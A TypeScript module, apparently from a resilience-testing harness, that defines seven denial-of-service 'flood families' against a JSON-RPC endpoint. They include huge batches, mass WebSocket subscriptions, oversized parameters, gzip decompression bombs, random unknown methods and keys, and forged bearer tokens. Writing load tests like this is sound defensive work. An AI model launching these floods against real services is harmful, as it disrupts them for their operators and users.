import { gzipSync } from 'node:zlib'
import { batch, longBytes, longCallInGzip, read } from '../attack/calls.ts'
import { frame, holdWebSockets, opcodes } from '../attack/hold-web-sockets.ts'
import { repeatRequests } from '../attack/repeat-requests.ts'
import { forgedToken } from '../attack/slow-tokens.ts'
import type { Family } from '../family.ts'

const longBatches: Family = {
  number: 14,
  name: 'batches of 1,000 x 50',
  does: '50 connections that send batches of 1,000 calls, each after the answer to the last',
  start: (context) => repeatRequests(context, { connections: 50, body: () => batch(context, 1_000) }),
}

const subscriptions: Family = {
  number: 15,
  name: '20,000 subscriptions',
  does: '20 WebSockets with 1,000 subscriptions to heads each',
  start: (context) =>
    holdWebSockets(context, {
      count: 20,
      onOpen(socket) {
        let left = 1_000
        const timer = setInterval(() => {
          for (let i = 0; i < 20; i++) {
            const id = context.next()
            socket.write(
              frame(opcodes.text, `{"jsonrpc":"2.0","id":${id},"method":"eth_subscribe","params":["newHeads"]}`),
            )
          }
          context.tally('asked', 20)
          left -= 20
          if (left === 0 || socket.destroyed) clearInterval(timer)
        }, 50)
      },
    }),
}

const longParams: Family = {
  number: 16,
  name: '4.9 MB params',
  does: 'four connections that send calls of 4.9 MB, each after the answer to the last',
  start(context) {
    const long = 'a'.repeat(longBytes)
    return repeatRequests(context, {
      connections: 4,
      body: () => `{"jsonrpc":"2.0","id":1,"method":"eth_getBalance","params":["${context.next()}${long}"]}`,
    })
  },
}

const gzipFlood: Family = {
  number: 17,
  name: 'gzip flood',
  does: '16 connections that send bodies of 5 kB that are 4.9 MB, and of 97 kB that are 100 MB',
  start(context) {
    const bodies = [longCallInGzip(), gzipSync(Buffer.alloc(100_000_000, 0x20))]
    let turn = 0
    return repeatRequests(context, {
      connections: 16,
      headers: { 'content-encoding': 'gzip' },
      body: () => bodies[turn++ % 2]!,
    })
  },
}

const unknownMethods: Family = {
  number: 18,
  name: 'unknown methods',
  does: '32 connections that call a method of another name each time',
  start: (context) =>
    repeatRequests(context, {
      connections: 32,
      body: () => `{"jsonrpc":"2.0","id":1,"method":"own_method${context.next()}","params":[]}`,
    }),
}

const unknownKeys: Family = {
  number: 19,
  name: 'unknown keys',
  does: '32 connections that call with another key each time, which nobody has',
  start: (context) =>
    repeatRequests(context, {
      connections: 32,
      url: () => context.rpc + context.strangePath(),
      body: () => '{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber","params":[]}',
    }),
}

const slowTokens: Family = {
  number: 32,
  name: 'slow tokens',
  does: '32 connections that call with another forged token each time, of the slowest key that a project may have',
  start: (context) =>
    repeatRequests(context, {
      connections: 32,
      headers: () => ({ authorization: `Bearer ${forgedToken(context.next())}` }),
      body: () => read(context),
    }),
}

export const floodFamilies: readonly Family[] = [
  longBatches,
  subscriptions,
  longParams,
  gzipFlood,
  unknownMethods,
  unknownKeys,
  slowTokens,
]
